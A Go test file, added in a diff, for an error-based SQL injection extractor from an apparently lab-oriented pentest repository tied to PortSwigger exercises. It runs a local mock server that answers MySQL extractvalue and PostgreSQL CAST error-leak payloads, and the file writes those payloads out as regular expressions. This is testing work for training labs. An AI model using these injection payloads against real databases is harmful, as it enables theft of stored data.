@@ -0,0 +1,107 @@
+package sqli
+
+import (
+	"fmt"
+	"html"
+	"net/http"
+	"net/http/httptest"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+var (
+	mysqlLeak      = regexp.MustCompile(`' AND extractvalue\(1,concat\(0x7e,\(SUBSTRING\(\(v\),(\d+),(\d+)\)\),0x7e\)\)-- $`)
+	postgreSQLLeak = regexp.MustCompile(`' AND 1=CAST\('~'\|\|\(v\)\|\|'~' AS int\)--$`)
+)
+
+// errorLab leaks the value of the expression "v" in the error page of the dialect,
+// escaped as HTML on a single line with more quotes after it, and answers every other
+// payload with a page without errors.
+func errorLab(db constant.Database, value string) *httptest.Server {
+	runes := []rune(value)
+	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		injected := strings.TrimPrefix(r.URL.Query().Get("category"), "Gifts")
+		if match := mysqlLeak.FindStringSubmatch(injected); match != nil && db.Name == constant.MYSQL.Name {
+			position, _ := strconv.Atoi(match[1])
+			length, _ := strconv.Atoi(match[2])
+			start := min(position-1, len(runes))
+			chunk := string(runes[start:min(start+length, len(runes))])
+			w.WriteHeader(http.StatusInternalServerError)
+			fmt.Fprintf(w, `<p>XPATH syntax error: %s</p><a href='/'>Home</a>`, html.EscapeString("'~"+chunk+"~'"))
+			return
+		}
+		if postgreSQLLeak.MatchString(injected) && db.Name == constant.POSTGRESQL.Name {
+			w.WriteHeader(http.StatusInternalServerError)
+			fmt.Fprintf(w, `<p>ERROR: invalid input syntax for type integer: %s</p><a href="/">Home</a>`, html.EscapeString(`"~`+value+`~"`))
+			return
+		}
+		fmt.Fprint(w, "<p>Gifts</p>")
+	}))
+}
+
+func TestErrorExtractorExtractString(t *testing.T) {
+	chunk := constant.MYSQL.ErrorChunkSize
+	tests := []struct {
+		name     string
+		db       constant.Database
+		value    string
+		boundary Boundary
+		wantErr  bool
+	}{
+		{"mysql short value", constant.MYSQL, "8.0.36", Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"mysql empty value", constant.MYSQL, "", Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"mysql exactly one chunk", constant.MYSQL, strings.Repeat("a", chunk), Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"mysql several chunks", constant.MYSQL, strings.Repeat("abcdefghij", 7), Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"mysql quotes and non-ASCII", constant.MYSQL, `O'Neil "é" <b>` + strings.Repeat("ü", chunk), Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"mysql tilde", constant.MYSQL, "a~b~", Boundary{Prefix: "'", Suffix: "-- "}, false},
+		{"postgresql whole value", constant.POSTGRESQL, "PostgreSQL 15.4 " + strings.Repeat("x", 100), Boundary{Prefix: "'", Suffix: "--"}, false},
+		{"postgresql quotes", constant.POSTGRESQL, `say "hi" to O'Neil`, Boundary{Prefix: "'", Suffix: "--"}, false},
+		{"postgresql tags and tilde", constant.POSTGRESQL, `<b>a~b</b>`, Boundary{Prefix: "'", Suffix: "--"}, false},
+		{"errors not shown", constant.POSTGRESQL, "secret", Boundary{Prefix: "'", Suffix: "-- "}, true},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			server := errorLab(test.db, test.value)
+			defer server.Close()
+			client, err := utility.NewClient("")
+			if err != nil {
+				t.Fatal(err)
+			}
+			point := NewInjectionPoint("GET", server.URL+"/filter?category=Gifts", LocationQuery, "category")
+			extractor, err := NewErrorExtractor(client, point, test.boundary, test.db)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			value, err := extractor.ExtractString("v")
+			if test.wantErr {
+				if err == nil {
+					t.Fatalf("got %q, want an error", value)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if value != test.value {
+				t.Errorf("got %q, want %q", value, test.value)
+			}
+		})
+	}
+}
+
+func TestNewErrorExtractorNeedsErrorLeak(t *testing.T) {
+	client, err := utility.NewClient("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	point := NewInjectionPoint("GET", "http://127.0.0.1/", LocationQuery, "id")
+	if _, err := NewErrorExtractor(client, point, Boundary{}, constant.SQLITE); err == nil {
+		t.Error("SQLite errors cannot leak values, want an error")
+	}
+}